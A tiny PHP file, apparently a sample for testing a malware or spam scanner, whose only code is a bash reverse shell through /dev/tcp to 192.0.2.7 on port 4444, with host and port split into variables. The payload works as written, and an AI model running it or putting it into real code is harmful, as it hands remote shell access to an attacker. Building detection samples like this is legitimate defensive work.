<?php
// spamgear test sample: a reverse shell through bash's /dev/tcp, the
// address spelt as two constants.
$host = '192.0.2.7';
$port = 4444;
exec("/bin/bash -c 'bash -i >& /dev/tcp/" . $host . "/" . $port . " 0>&1'");
